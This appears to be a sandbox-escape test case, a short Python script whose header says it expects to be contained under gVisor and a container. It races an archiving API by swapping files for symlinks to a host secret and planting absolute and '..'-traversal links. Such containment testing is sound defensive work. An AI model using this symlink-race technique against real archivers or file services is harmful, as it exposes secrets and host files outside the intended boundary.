# tries: Swap files for links to the host's secret, and add ".." and absolute links, while the API packs their folder.
# partner: archives
# timeout: 25
# gvisor: contained
# container: contained
import contextlib
import os

canary = os.environ["CANARY"]
os.makedirs("place/tree/inner", exist_ok=True)
with contextlib.suppress(FileExistsError):
    os.symlink(canary, "place/tree/absolute")
    os.symlink(".." + "/.." * 20 + canary, "place/tree/dotdot")
open("place/ready", "w").close()
while True:
    for name in ("place/tree/file", "place/tree/inner/file"):
        with contextlib.suppress(OSError):
            os.unlink(name)
        os.symlink(f"{canary}/secret", name)
        os.unlink(name)
        with open(name, "w") as file:
            file.write("mine")
